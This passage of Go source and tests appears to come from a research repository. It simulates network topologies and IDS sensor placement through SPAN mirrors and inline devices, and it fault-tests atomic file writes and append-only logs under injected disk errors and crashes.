		t.External = append(t.External, h)
	}

	if err := f.Finalize(); err != nil {
		return nil, err
	}
	return t, nil
}

// AttachLeafMirror connects a passive sink to leaf i's SPAN port. The
// sink lives in the leaf's domain (i+1) — a sensor tapping the mirror
// must be built against that domain's Sim.
func (t *LargeTopology) AttachLeafMirror(i int, sink Endpoint, cfg LinkConfig) (*Link, error) {
	if i < 0 || i >= len(t.Leaves) {
		return nil, fmt.Errorf("netsim: no leaf %d", i)
	}
	if cfg.Name == "" {
		cfg.Name = fmt.Sprintf("span-leaf%03d", i)
	}
	if err := t.Fabric.Place(i+1, sink); err != nil {
		return nil, err
	}
	l, err := t.Fabric.Link(t.Leaves[i], sink, cfg)
	if err != nil {
		return nil, err
	}
	t.Leaves[i].SetMirror(l)
	return l, nil
}

// SegmentSim returns the Sim driving segment s's domain.
func (t *LargeTopology) SegmentSim(s int) *simtime.Sim { return t.Fabric.Sim(s + 1) }

// CoreSim returns domain 0's Sim (border, external, distribution).
func (t *LargeTopology) CoreSim() *simtime.Sim { return t.Fabric.Sim(0) }
