package netsim

import (
	"testing"
	"testing/quick"
	"time"

	"repro/internal/packet"
	"repro/internal/simtime"
)

func pkt(src, dst packet.Addr, size int) *packet.Packet {
	return &packet.Packet{
		Src: src, Dst: dst, SrcPort: 1000, DstPort: 80,
		Proto: packet.ProtoTCP, TTL: 64,
		Payload: make([]byte, size),
	}
}

func TestLinkDeliversWithSerializationAndPropagation(t *testing.T) {
	sim := simtime.New(1)
	a := NewHost(sim, "a", packet.IPv4(10, 0, 0, 1))
	b := NewHost(sim, "b", packet.IPv4(10, 0, 0, 2))
	// 1 Mb/s so serialization is visible: 1054 bytes -> 8.432 ms.
	l := NewLink(sim, a, b, LinkConfig{BandwidthBps: 1e6, Propagation: time.Millisecond})
	a.SetLink(l)

	var arrived simtime.Time = -1
	b.OnPacket = func(p *packet.Packet) { arrived = sim.Now() }
	a.Send(pkt(a.Addr(), b.Addr(), 1000))
	sim.Run()

	want := time.Duration(float64(1054*8)/1e6*float64(time.Second)) + time.Millisecond
	if arrived != want {
		t.Fatalf("arrival at %v, want %v", arrived, want)
	}
	if b.Received != 1 {
		t.Fatalf("b.Received = %d", b.Received)
	}
}

func TestLinkQueuesBackToBackPackets(t *testing.T) {
	sim := simtime.New(1)
	a := NewHost(sim, "a", packet.IPv4(10, 0, 0, 1))
	b := NewHost(sim, "b", packet.IPv4(10, 0, 0, 2))
	l := NewLink(sim, a, b, LinkConfig{BandwidthBps: 1e6, Propagation: time.Millisecond})
	a.SetLink(l)

	var arrivals []simtime.Time
	b.OnPacket = func(p *packet.Packet) { arrivals = append(arrivals, sim.Now()) }
	a.Send(pkt(a.Addr(), b.Addr(), 1000))
	a.Send(pkt(a.Addr(), b.Addr(), 1000))
	sim.Run()

	if len(arrivals) != 2 {
		t.Fatalf("delivered %d packets", len(arrivals))
	}
	ser := time.Duration(float64(1054*8) / 1e6 * float64(time.Second))
	if got := arrivals[1] - arrivals[0]; got != ser {
		t.Fatalf("spacing %v, want one serialization time %v", got, ser)
	}
}

func TestLinkDropsOnBufferOverflow(t *testing.T) {
	sim := simtime.New(1)
	a := NewHost(sim, "a", packet.IPv4(10, 0, 0, 1))
	b := NewHost(sim, "b", packet.IPv4(10, 0, 0, 2))
	l := NewLink(sim, a, b, LinkConfig{BandwidthBps: 1e6, BufferBytes: 2500})
	a.SetLink(l)

	accepted := 0
	for i := 0; i < 5; i++ {
		if a.Send(pkt(a.Addr(), b.Addr(), 1000)) {
			accepted++
		}
	}
	sim.Run()
	// Each packet is 1054 bytes on the wire; buffer holds two.
	if accepted != 2 {
		t.Fatalf("accepted %d, want 2", accepted)
	}
	st := l.StatsToward(b)
	if st.Dropped != 3 || st.Delivered != 2 {
		t.Fatalf("stats = %+v", st)
	}
	if a.SendFailed != 3 {
		t.Fatalf("SendFailed = %d", a.SendFailed)
	}
}

func TestSwitchForwardsByAddress(t *testing.T) {
	sim := simtime.New(1)
	sw := NewSwitch(sim, "sw", 0)
	h1 := NewHost(sim, "h1", packet.IPv4(10, 0, 0, 1))
	h2 := NewHost(sim, "h2", packet.IPv4(10, 0, 0, 2))
	h3 := NewHost(sim, "h3", packet.IPv4(10, 0, 0, 3))
	sw.Connect(h1, LinkConfig{})
	sw.Connect(h2, LinkConfig{})
	sw.Connect(h3, LinkConfig{})

	h1.Send(pkt(h1.Addr(), h2.Addr(), 100))
	sim.Run()
	if h2.Received != 1 || h3.Received != 0 {
		t.Fatalf("h2=%d h3=%d", h2.Received, h3.Received)
	}
	if sw.Forwarded != 1 {
		t.Fatalf("Forwarded = %d", sw.Forwarded)
	}
}

func TestSwitchNoRouteCounted(t *testing.T) {
	sim := simtime.New(1)
	sw := NewSwitch(sim, "sw", 0)
	h1 := NewHost(sim, "h1", packet.IPv4(10, 0, 0, 1))
	sw.Connect(h1, LinkConfig{})
	h1.Send(pkt(h1.Addr(), packet.IPv4(99, 9, 9, 9), 10))
	sim.Run()
	if sw.NoRoute != 1 {
		t.Fatalf("NoRoute = %d", sw.NoRoute)
	}
}

func TestSwitchMirrorCopiesTraffic(t *testing.T) {
	sim := simtime.New(1)
	sw := NewSwitch(sim, "sw", 0)
	h1 := NewHost(sim, "h1", packet.IPv4(10, 0, 0, 1))
	h2 := NewHost(sim, "h2", packet.IPv4(10, 0, 0, 2))
	sw.Connect(h1, LinkConfig{})
	sw.Connect(h2, LinkConfig{})
	sink := NewSink("ids")
	mirror := NewLink(sim, sw, sink, LinkConfig{Name: "span"})
	sw.SetMirror(mirror)

	for i := 0; i < 10; i++ {
		h1.Send(pkt(h1.Addr(), h2.Addr(), 100))
	}
	sim.Run()
	if h2.Received != 10 {
		t.Fatalf("h2.Received = %d", h2.Received)
	}
	if sink.Count != 10 {
		t.Fatalf("mirror sink got %d packets, want 10", sink.Count)
	}
}

func TestSaturatedMirrorDropsWithoutAffectingProduction(t *testing.T) {
	sim := simtime.New(1)
	sw := NewSwitch(sim, "sw", 0)
	h1 := NewHost(sim, "h1", packet.IPv4(10, 0, 0, 1))
	h2 := NewHost(sim, "h2", packet.IPv4(10, 0, 0, 2))
	sw.Connect(h1, LinkConfig{BandwidthBps: 1e9})
	sw.Connect(h2, LinkConfig{BandwidthBps: 1e9})
	sink := NewSink("ids")
	// Mirror link far slower than production with a tiny buffer.
	mirror := NewLink(sim, sw, sink, LinkConfig{BandwidthBps: 1e5, BufferBytes: 2000})
	sw.SetMirror(mirror)

	for i := 0; i < 100; i++ {
		h1.Send(pkt(h1.Addr(), h2.Addr(), 1000))
	}
	sim.Run()
	if h2.Received != 100 {
		t.Fatalf("production traffic affected: h2.Received = %d", h2.Received)
	}
	if sink.Count >= 100 {
		t.Fatalf("saturated mirror delivered all %d packets", sink.Count)
	}
	if st := mirror.StatsToward(sink); st.Dropped == 0 {
		t.Fatal("expected mirror drops")
	}
}

func TestRouterForwardsAndDecrementsTTL(t *testing.T) {
	sim := simtime.New(1)
	top := BuildTopology(sim, TopologyConfig{ClusterHosts: 2, ExternalHosts: 1})
	src := top.External[0]
	dst := top.Cluster[0]

	var gotTTL uint8
	dst.OnPacket = func(p *packet.Packet) { gotTTL = p.TTL }
	src.Send(pkt(src.Addr(), dst.Addr(), 100))
	sim.Run()
	if dst.Received != 1 {
		t.Fatalf("dst.Received = %d", dst.Received)
	}
	if gotTTL != 63 {
		t.Fatalf("TTL = %d, want 63", gotTTL)
	}
}

func TestRouterDropsExpiredTTL(t *testing.T) {
	sim := simtime.New(1)
	top := BuildTopology(sim, TopologyConfig{ClusterHosts: 1, ExternalHosts: 1})
	p := pkt(top.External[0].Addr(), top.Cluster[0].Addr(), 10)
	p.TTL = 1
	top.External[0].Send(p)
	sim.Run()
	if top.Cluster[0].Received != 0 {
		t.Fatal("TTL=1 packet crossed the router")
	}
	if top.Border.TTLDrops != 1 {
		t.Fatalf("TTLDrops = %d", top.Border.TTLDrops)
	}
}

func TestTopologyEastWestTraffic(t *testing.T) {
	sim := simtime.New(1)
	top := BuildTopology(sim, TopologyConfig{ClusterHosts: 4, ExternalHosts: 1})
	a, b := top.Cluster[0], top.Cluster[3]
	a.Send(pkt(a.Addr(), b.Addr(), 100))
	sim.Run()
	if b.Received != 1 {
		t.Fatalf("b.Received = %d", b.Received)
	}
	if top.Border.Forwarded != 0 {
		t.Fatal("east-west traffic crossed the border router")
	}
}

func TestTopologyMirrorSeesNorthSouthAndEastWest(t *testing.T) {
	sim := simtime.New(1)
	top := BuildTopology(sim, TopologyConfig{ClusterHosts: 2, ExternalHosts: 1})
	sink := NewSink("ids")
	top.AttachMirror(sink, LinkConfig{BandwidthBps: 10e9})

	top.External[0].Send(pkt(top.External[0].Addr(), top.Cluster[0].Addr(), 100))
	top.Cluster[0].Send(pkt(top.Cluster[0].Addr(), top.Cluster[1].Addr(), 100))
	sim.Run()
	if sink.Count != 2 {
		t.Fatalf("mirror saw %d packets, want 2", sink.Count)
	}
}

func TestInlineDeviceForwardsAndAddsLatency(t *testing.T) {
	sim := simtime.New(1)
	top := BuildTopology(sim, TopologyConfig{ClusterHosts: 1, ExternalHosts: 1})

	// Baseline latency without device.
	var base simtime.Time
	top.Cluster[0].OnPacket = func(p *packet.Packet) { base = sim.Now() - p.Sent }
	top.External[0].Send(pkt(top.External[0].Addr(), top.Cluster[0].Addr(), 100))
	sim.Run()

	// Fresh topology with an in-line device.
	sim2 := simtime.New(1)
	top2 := BuildTopology(sim2, TopologyConfig{ClusterHosts: 1, ExternalHosts: 1})
	dev := NewInlineDevice(sim2, "inline-ids", 200*time.Microsecond)
	top2.InsertInline(dev, LinkConfig{})
	var withDev simtime.Time
	top2.Cluster[0].OnPacket = func(p *packet.Packet) { withDev = sim2.Now() - p.Sent }
	top2.External[0].Send(pkt(top2.External[0].Addr(), top2.Cluster[0].Addr(), 100))
	sim2.Run()

	if dev.Forwarded != 1 {
		t.Fatalf("device forwarded %d", dev.Forwarded)
	}
	if withDev <= base {
		t.Fatalf("in-line device did not add latency: base=%v with=%v", base, withDev)
	}
	if added := withDev - base; added < 200*time.Microsecond {
		t.Fatalf("added latency %v < processing cost", added)
	}
}

func TestInlineDeviceFilterDrops(t *testing.T) {
	sim := simtime.New(1)
	top := BuildTopology(sim, TopologyConfig{ClusterHosts: 1, ExternalHosts: 1})
	dev := NewInlineDevice(sim, "filter", time.Microsecond)
	dev.Process = func(p *packet.Packet) bool { return p.DstPort != 23 }
	top.InsertInline(dev, LinkConfig{})

	good := pkt(top.External[0].Addr(), top.Cluster[0].Addr(), 10)
	bad := pkt(top.External[0].Addr(), top.Cluster[0].Addr(), 10)
	bad.DstPort = 23
	top.External[0].Send(good)
	top.External[0].Send(bad)
	sim.Run()
	if top.Cluster[0].Received != 1 {
		t.Fatalf("received %d, want 1 (telnet filtered)", top.Cluster[0].Received)
	}
	if dev.Filtered != 1 {
		t.Fatalf("Filtered = %d", dev.Filtered)
	}
}

func TestInlineDeviceCapacityOverloadDrops(t *testing.T) {
	sim := simtime.New(1)
	top := BuildTopology(sim, TopologyConfig{ClusterHosts: 1, ExternalHosts: 1})
	dev := NewInlineDevice(sim, "slow", 0)
	dev.CapacityPps = 1000 // 1ms per packet
	dev.QueueLimit = 10
	top.InsertInline(dev, LinkConfig{})

	for i := 0; i < 200; i++ {
		top.External[0].Send(pkt(top.External[0].Addr(), top.Cluster[0].Addr(), 50))
	}
	sim.Run()
	if dev.Dropped == 0 {
		t.Fatal("overloaded device dropped nothing")
	}
	if top.Cluster[0].Received+dev.Dropped != 200 {
		t.Fatalf("conservation violated: delivered=%d dropped=%d", top.Cluster[0].Received, dev.Dropped)
	}
}

func TestClusterAddrUnique(t *testing.T) {
	seen := make(map[packet.Addr]bool)
	for i := 0; i < 1000; i++ {
		a := ClusterAddr(i)
		if seen[a] {
			t.Fatalf("duplicate cluster address %v at i=%d", a, i)
		}
		seen[a] = true
		if a&0xFFFF0000 != LanPrefix {
			t.Fatalf("ClusterAddr(%d) = %v outside LAN prefix", i, a)
		}
	}
}

func TestAddClusterHost(t *testing.T) {
	sim := simtime.New(1)
	top := BuildTopology(sim, TopologyConfig{ClusterHosts: 1, ExternalHosts: 1})
	h := top.AddClusterHost()
	if len(top.Cluster) != 2 {
		t.Fatalf("cluster size %d", len(top.Cluster))
	}
	top.Cluster[0].Send(pkt(top.Cluster[0].Addr(), h.Addr(), 10))
	sim.Run()
	if h.Received != 1 {
		t.Fatal("added host unreachable")
	}
}

// Property: packet conservation on a single link — every accepted packet is
// delivered exactly once, every rejected one is counted as a drop.
func TestPropertyLinkConservation(t *testing.T) {
	f := func(sizes []uint16) bool {
		sim := simtime.New(7)
		a := NewHost(sim, "a", packet.IPv4(10, 0, 0, 1))
		b := NewHost(sim, "b", packet.IPv4(10, 0, 0, 2))
		l := NewLink(sim, a, b, LinkConfig{BandwidthBps: 1e7, BufferBytes: 8000})
		a.SetLink(l)
		sent := 0
		for _, s := range sizes {
			a.Send(pkt(a.Addr(), b.Addr(), int(s)%1400))
			sent++
		}
		sim.Run()
		st := l.StatsToward(b)
		return st.Sent == uint64(sent) &&
			st.Delivered+st.Dropped == uint64(sent) &&
			b.Received == st.Delivered
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 50}); err != nil {
		t.Fatal(err)
	}
}

func BenchmarkTopologyNorthSouth(b *testing.B) {
	sim := simtime.New(1)
	top := BuildTopology(sim, TopologyConfig{ClusterHosts: 8, ExternalHosts: 2})
	src, dst := top.External[0], top.Cluster[0]
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		src.Send(pkt(src.Addr(), dst.Addr(), 512))
		sim.Run()
	}
}
