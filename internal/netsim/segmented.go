package netsim

import (
	"fmt"
	"time"

	"repro/internal/packet"
	"repro/internal/simtime"
)

// SegmentedTopology is the sensor-placement variant of the testbed: the
// LAN is split across several leaf switches behind a distribution
// switch, and each leaf carries its own SPAN port. This is the paper's
// no-load-balancer deployment — "the load may be statically spread out
// by placing sensors in separate subnets. Individual, statically placed
// sensors may overload or starve, and the protection of the network will
// be uneven."
//
//	ext hosts ── extSwitch ── borderRouter ── distSwitch ──┬── leaf0 ── hosts, mirror0
//	                                                       ├── leaf1 ── hosts, mirror1
//	                                                       └── ...
type SegmentedTopology struct {
	Sim      *simtime.Sim
	Border   *Router
	Ext      *Switch
	Dist     *Switch
	Leaves   []*Switch
	External []*Host
	// Cluster holds all hosts; Segment[i] holds leaf i's hosts.
	Cluster []*Host
	Segment [][]*Host
}

// SegmentedConfig parameterizes BuildSegmentedTopology.
type SegmentedConfig struct {
	// Subnets is the number of leaf switches (default 2).
	Subnets int
	// HostsPerSubnet (default 3).
	HostsPerSubnet int
	// ExternalHosts (default 2).
	ExternalHosts int
	// HostLink and BackboneLink as in TopologyConfig.
	HostLink     LinkConfig
	BackboneLink LinkConfig
}

// SegmentAddr returns the address of host h in subnet s: 10.1.(s+1).(h+1).
func SegmentAddr(s, h int) packet.Addr {
	return packet.IPv4(10, 1, byte(s+1), byte(h+1))
}

// BuildSegmentedTopology wires the placement testbed.
func BuildSegmentedTopology(sim *simtime.Sim, cfg SegmentedConfig) *SegmentedTopology {
	if cfg.Subnets <= 0 {
		cfg.Subnets = 2
	}
	if cfg.HostsPerSubnet <= 0 {
		cfg.HostsPerSubnet = 3
	}
	if cfg.ExternalHosts <= 0 {
		cfg.ExternalHosts = 2
	}
	if cfg.BackboneLink.BandwidthBps <= 0 {
		cfg.BackboneLink.BandwidthBps = 10e9
	}
	if cfg.BackboneLink.BufferBytes <= 0 {
		cfg.BackboneLink.BufferBytes = 4 << 20
	}

	t := &SegmentedTopology{
		Sim:    sim,
		Border: NewRouter(sim, "border-router", 20*time.Microsecond),
		Ext:    NewSwitch(sim, "ext-switch", 5*time.Microsecond),
		Dist:   NewSwitch(sim, "dist-switch", 5*time.Microsecond),
	}
	extTrunk := cfg.BackboneLink
	extTrunk.Name = "ext-trunk"
	extLink := NewLink(sim, t.Ext, t.Border, extTrunk)
	t.Ext.SetUplink(extLink)

	distTrunk := cfg.BackboneLink
	distTrunk.Name = "dist-trunk"
	distLink := NewLink(sim, t.Border, t.Dist, distTrunk)
	t.Dist.SetUplink(distLink)
	t.Border.AddRoute(packet.IPv4(10, 1, 0, 0), 16, distLink)
	t.Border.AddRoute(packet.IPv4(203, 0, 0, 0), 16, extLink)

	for s := 0; s < cfg.Subnets; s++ {
		leaf := NewSwitch(sim, fmt.Sprintf("leaf%02d", s), 5*time.Microsecond)
		leafTrunk := cfg.BackboneLink
		leafTrunk.Name = fmt.Sprintf("leaf%02d-trunk", s)
		up := NewLink(sim, t.Dist, leaf, leafTrunk)
		leaf.SetUplink(up)
		var segment []*Host
		for h := 0; h < cfg.HostsPerSubnet; h++ {
			host := NewHost(sim, fmt.Sprintf("s%02dn%02d", s, h), SegmentAddr(s, h))
			leaf.Connect(host, cfg.HostLink)
			// The distribution switch routes the whole /24 via the leaf.
			t.Dist.AddRoute(host.Addr(), up)
			segment = append(segment, host)
			t.Cluster = append(t.Cluster, host)
		}
		t.Leaves = append(t.Leaves, leaf)
		t.Segment = append(t.Segment, segment)
	}
	for i := 0; i < cfg.ExternalHosts; i++ {
		h := NewHost(sim, fmt.Sprintf("ext%02d", i), ExternalAddr(i))
		t.Ext.Connect(h, cfg.HostLink)
		t.External = append(t.External, h)
	}
	return t
}

// AttachLeafMirror connects a passive sink to leaf i's SPAN port.
func (t *SegmentedTopology) AttachLeafMirror(i int, sink Endpoint, cfg LinkConfig) (*Link, error) {
	if i < 0 || i >= len(t.Leaves) {
		return nil, fmt.Errorf("netsim: no leaf %d", i)
	}
	if cfg.Name == "" {
		cfg.Name = fmt.Sprintf("span-leaf%02d", i)
	}
	l := NewLink(t.Sim, t.Leaves[i], sink, cfg)
	t.Leaves[i].SetMirror(l)
	return l, nil
}

// AttachDistMirror connects a sink to the distribution switch's SPAN —
// the single-central-sensor placement.
func (t *SegmentedTopology) AttachDistMirror(sink Endpoint, cfg LinkConfig) *Link {
	if cfg.Name == "" {
		cfg.Name = "span-dist"
	}
	l := NewLink(t.Sim, t.Dist, sink, cfg)
	t.Dist.SetMirror(l)
	return l
}
