package netsim

import (
	"testing"
	"time"

	"repro/internal/packet"
	"repro/internal/simtime"
)

func TestSegmentedTopologyRouting(t *testing.T) {
	sim := simtime.New(1)
	top := BuildSegmentedTopology(sim, SegmentedConfig{Subnets: 3, HostsPerSubnet: 2, ExternalHosts: 1})
	if len(top.Cluster) != 6 || len(top.Leaves) != 3 {
		t.Fatalf("topology sizes: %d hosts, %d leaves", len(top.Cluster), len(top.Leaves))
	}
	// North-south reaches every subnet.
	for s := 0; s < 3; s++ {
		dst := top.Segment[s][0]
		top.External[0].Send(pkt(top.External[0].Addr(), dst.Addr(), 64))
	}
	sim.Run()
	for s := 0; s < 3; s++ {
		if top.Segment[s][0].Received != 1 {
			t.Fatalf("subnet %d unreachable", s)
		}
	}
}

func TestSegmentedCrossSubnetTraffic(t *testing.T) {
	sim := simtime.New(1)
	top := BuildSegmentedTopology(sim, SegmentedConfig{Subnets: 2, HostsPerSubnet: 2, ExternalHosts: 1})
	src := top.Segment[0][0]
	dst := top.Segment[1][1]
	src.Send(pkt(src.Addr(), dst.Addr(), 64))
	sim.Run()
	if dst.Received != 1 {
		t.Fatal("cross-subnet traffic lost")
	}
	// Cross-subnet stays below the border router.
	if top.Border.Forwarded != 0 {
		t.Fatal("east-west crossed the border router")
	}
}

func TestLeafMirrorsSeeOnlyTheirSubnet(t *testing.T) {
	sim := simtime.New(1)
	top := BuildSegmentedTopology(sim, SegmentedConfig{Subnets: 2, HostsPerSubnet: 2, ExternalHosts: 1})
	sink0 := NewSink("sensor0")
	sink1 := NewSink("sensor1")
	if _, err := top.AttachLeafMirror(0, sink0, LinkConfig{BandwidthBps: 10e9}); err != nil {
		t.Fatal(err)
	}
	if _, err := top.AttachLeafMirror(1, sink1, LinkConfig{BandwidthBps: 10e9}); err != nil {
		t.Fatal(err)
	}
	// Intra-subnet-0 traffic: only sensor0 sees it.
	a, b := top.Segment[0][0], top.Segment[0][1]
	a.Send(pkt(a.Addr(), b.Addr(), 64))
	sim.Run()
	if sink0.Count == 0 {
		t.Fatal("sensor0 blind to its own subnet")
	}
	if sink1.Count != 0 {
		t.Fatal("sensor1 saw another subnet's intra-switch traffic")
	}
}

func TestStaticPlacementIsUneven(t *testing.T) {
	// The paper: "Individual, statically placed sensors may overload or
	// starve, and the protection of the network will be uneven." Load all
	// traffic at subnet 0: its sensor's slow SPAN drops while subnet 1's
	// sensor starves.
	sim := simtime.New(1)
	top := BuildSegmentedTopology(sim, SegmentedConfig{Subnets: 2, HostsPerSubnet: 2, ExternalHosts: 1})
	sink0 := NewSink("sensor0")
	sink1 := NewSink("sensor1")
	span0, err := top.AttachLeafMirror(0, sink0, LinkConfig{BandwidthBps: 2e6, BufferBytes: 4000})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := top.AttachLeafMirror(1, sink1, LinkConfig{BandwidthBps: 2e6, BufferBytes: 4000}); err != nil {
		t.Fatal(err)
	}
	a, b := top.Segment[0][0], top.Segment[0][1]
	for i := 0; i < 300; i++ {
		i := i
		sim.MustSchedule(time.Duration(i)*100*time.Microsecond, func() {
			a.Send(pkt(a.Addr(), b.Addr(), 1000))
		})
	}
	sim.Run()
	if st := span0.StatsToward(sink0); st.Dropped == 0 {
		t.Fatal("hot subnet's sensor did not overload")
	}
	if sink1.Count != 0 {
		t.Fatal("cold subnet's sensor did not starve")
	}
	// Production traffic is unaffected by sensor overload.
	if b.Received != 300 {
		t.Fatalf("production delivery %d/300", b.Received)
	}
}

func TestDistMirrorSeesCrossSubnetOnly(t *testing.T) {
	sim := simtime.New(1)
	top := BuildSegmentedTopology(sim, SegmentedConfig{Subnets: 2, HostsPerSubnet: 2, ExternalHosts: 1})
	central := NewSink("central")
	top.AttachDistMirror(central, LinkConfig{BandwidthBps: 10e9})

	// Intra-leaf traffic never reaches the distribution switch: the
	// central sensor placement has a structural blind spot.
	a, b := top.Segment[0][0], top.Segment[0][1]
	a.Send(pkt(a.Addr(), b.Addr(), 64))
	sim.Run()
	if central.Count != 0 {
		t.Fatal("central SPAN saw intra-leaf traffic")
	}
	// Cross-subnet traffic does transit it.
	c := top.Segment[1][0]
	a.Send(pkt(a.Addr(), c.Addr(), 64))
	sim.Run()
	if central.Count == 0 {
		t.Fatal("central SPAN blind to cross-subnet traffic")
	}
}

func TestAttachLeafMirrorValidation(t *testing.T) {
	sim := simtime.New(1)
	top := BuildSegmentedTopology(sim, SegmentedConfig{})
	if _, err := top.AttachLeafMirror(9, NewSink("x"), LinkConfig{}); err == nil {
		t.Fatal("out-of-range leaf accepted")
	}
}

func TestSegmentAddrStable(t *testing.T) {
	if SegmentAddr(0, 0) != packet.IPv4(10, 1, 1, 1) || SegmentAddr(2, 4) != packet.IPv4(10, 1, 3, 5) {
		t.Fatal("segment addressing scheme changed")
	}
}
