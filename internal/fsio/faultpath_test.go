package fsio_test

// Error-path tests for the atomic-write protocol under an injecting
// filesystem: whatever single fault fires (ENOSPC at create, write,
// sync, or rename), the destination must be untouched — previous
// contents intact, no torn file, no stray temp visible at the final
// path — and the error must name the destination.

import (
	"errors"
	"io"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"

	"repro/internal/fsio"
	"repro/internal/fsio/faultfs"
)

func writeAttempt(fs fsio.FS, path string) error {
	return fsio.WriteAtomicFS(fs, path, func(w io.Writer) error {
		_, err := w.Write([]byte("new contents\n"))
		return err
	})
}

func TestWriteAtomicDestinationUntouchedOnFault(t *testing.T) {
	cases := []struct {
		name string
		rule faultfs.Rule
	}{
		{"enospc-at-create", faultfs.Rule{Op: faultfs.OpCreate, Err: syscall.ENOSPC}},
		{"enospc-at-write", faultfs.Rule{Op: faultfs.OpWrite, Err: syscall.ENOSPC}},
		{"eio-at-sync", faultfs.Rule{Op: faultfs.OpSync, Err: syscall.EIO}},
		{"enospc-at-rename", faultfs.Rule{Op: faultfs.OpRename, Err: syscall.ENOSPC}},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			dir := t.TempDir()
			path := filepath.Join(dir, "out.json")
			if err := os.WriteFile(path, []byte("old contents\n"), 0o644); err != nil {
				t.Fatal(err)
			}
			ffs := faultfs.New(tc.rule)
			err := writeAttempt(ffs, path)
			if !errors.Is(err, tc.rule.Err) {
				t.Fatalf("err = %v, want %v", err, tc.rule.Err)
			}
			b, rerr := os.ReadFile(path)
			if rerr != nil || string(b) != "old contents\n" {
				t.Fatalf("destination disturbed: %q, %v", b, rerr)
			}
			ents, _ := os.ReadDir(dir)
			for _, e := range ents {
				if strings.Contains(e.Name(), ".tmp-") {
					t.Fatalf("stray temp file left behind: %s", e.Name())
				}
			}
			if ffs.Injected() != 1 {
				t.Fatalf("injected = %d, want 1", ffs.Injected())
			}
		})
	}
}

func TestCommitRenameErrorNamesDestination(t *testing.T) {
	dir := t.TempDir()
	path := filepath.Join(dir, "report.json")
	ffs := faultfs.New(faultfs.Rule{Op: faultfs.OpRename, Err: syscall.EIO})
	err := writeAttempt(ffs, path)
	if err == nil || !strings.Contains(err.Error(), path) {
		t.Fatalf("rename error must name the destination %s, got: %v", path, err)
	}
}

func TestCommitSyncDirFailureIsReported(t *testing.T) {
	dir := t.TempDir()
	path := filepath.Join(dir, "report.json")
	ffs := faultfs.New(faultfs.Rule{Op: faultfs.OpSyncDir, Err: syscall.EIO})
	err := writeAttempt(ffs, path)
	if !errors.Is(err, syscall.EIO) {
		t.Fatalf("directory-sync failure must surface, got: %v", err)
	}
	// The rename did land — the caller is told so it can retry.
	if _, serr := os.Stat(path); serr != nil {
		t.Fatalf("destination should exist after rename: %v", serr)
	}
}

func TestAppendCloseSyncsLastBatchedWrite(t *testing.T) {
	// A write whose fsync lies, then Close: Close's own sync is honest
	// here, so the record must survive the crash.
	dir := t.TempDir()
	path := filepath.Join(dir, "j.log")
	ffs := faultfs.New(faultfs.Rule{Op: faultfs.OpSync, N: 1, SyncLie: true})
	af, err := fsio.OpenAppendFS(ffs, path)
	if err != nil {
		t.Fatal(err)
	}
	if err := af.Append([]byte("rec\n")); err != nil {
		t.Fatalf("append with lying sync: %v", err)
	}
	if err := af.Close(); err != nil {
		t.Fatalf("close: %v", err)
	}
	ffs.CrashNow()
	b, _ := os.ReadFile(path)
	if string(b) != "rec\n" {
		t.Fatalf("record lost despite Close's fsync: %q", b)
	}
}

func TestAppendPoisonedAfterFailedRepair(t *testing.T) {
	// Write fails AND the repair truncate fails: the file must be
	// poisoned so no later append can concatenate onto the fragment.
	dir := t.TempDir()
	path := filepath.Join(dir, "j.log")
	ffs := faultfs.New(
		faultfs.Rule{Op: faultfs.OpWrite, N: 2, ShortWrite: true},
		faultfs.Rule{Op: faultfs.OpTruncate, Err: syscall.EIO},
	)
	af, err := fsio.OpenAppendFS(ffs, path)
	if err != nil {
		t.Fatal(err)
	}
	if err := af.Append([]byte("good\n")); err != nil {
		t.Fatal(err)
	}
	if err := af.Append([]byte("torn-record\n")); err == nil {
		t.Fatal("append should fail")
	}
	if err := af.Append([]byte("next\n")); err == nil || !strings.Contains(err.Error(), "poisoned") {
		t.Fatalf("poisoned file must refuse appends, got: %v", err)
	}
}
