package faultfs

import (
	"errors"
	"io"
	"os"
	"path/filepath"
	"syscall"
	"testing"

	"repro/internal/fsio"
)

// append writes one record through an fsio.AppendFile on fs.
func appendRec(t *testing.T, fs *FS, path, rec string) (*fsio.AppendFile, error) {
	t.Helper()
	af, err := fsio.OpenAppendFS(fs, path)
	if err != nil {
		t.Fatalf("open append: %v", err)
	}
	return af, af.Append([]byte(rec))
}

func TestPassthroughRecordsTrace(t *testing.T) {
	fs := New()
	dir := t.TempDir()
	path := filepath.Join(dir, "j.log")
	af, err := appendRec(t, fs, path, "one\n")
	if err != nil {
		t.Fatalf("append: %v", err)
	}
	if err := af.Close(); err != nil {
		t.Fatalf("close: %v", err)
	}
	got := fs.Trace()
	want := []Op{OpOpenAppend, OpWrite, OpSync, OpSync} // Append syncs, Close syncs
	if len(got) != len(want) {
		t.Fatalf("trace %v, want ops %v", got, want)
	}
	for i, r := range got {
		if r.Op != want[i] {
			t.Fatalf("trace[%d] = %s, want %s (full: %v)", i, r.Op, want[i], got)
		}
	}
	if fs.Injected() != 0 {
		t.Fatalf("probe mode injected %d faults", fs.Injected())
	}
}

func TestNthMatchAndError(t *testing.T) {
	fs := New(Rule{Op: OpWrite, N: 2, Err: syscall.ENOSPC})
	dir := t.TempDir()
	path := filepath.Join(dir, "j.log")
	af, err := appendRec(t, fs, path, "one\n")
	if err != nil {
		t.Fatalf("first append should pass: %v", err)
	}
	if err := af.Append([]byte("two\n")); !errors.Is(err, syscall.ENOSPC) {
		t.Fatalf("second append err = %v, want ENOSPC", err)
	}
	if fs.Injected() != 1 {
		t.Fatalf("injected = %d, want 1", fs.Injected())
	}
	// The failed record must have been truncated away by fsio's repair.
	b, _ := os.ReadFile(path)
	if string(b) != "one\n" {
		t.Fatalf("file = %q, want only the first record", b)
	}
}

func TestCrashTruncatesToWatermark(t *testing.T) {
	fs := New(Rule{Op: OpSync, N: 2, Crash: true})
	dir := t.TempDir()
	path := filepath.Join(dir, "j.log")
	af, err := appendRec(t, fs, path, "one\n")
	if err != nil {
		t.Fatalf("append: %v", err)
	}
	if err := af.Append([]byte("two\n")); !errors.Is(err, ErrCrashed) {
		t.Fatalf("append during crash = %v, want ErrCrashed", err)
	}
	if !fs.Crashed() {
		t.Fatal("fs should be crashed")
	}
	// "two\n" was written but never fsynced: the crash removes it.
	b, _ := os.ReadFile(path)
	if string(b) != "one\n" {
		t.Fatalf("post-crash file = %q, want %q", b, "one\n")
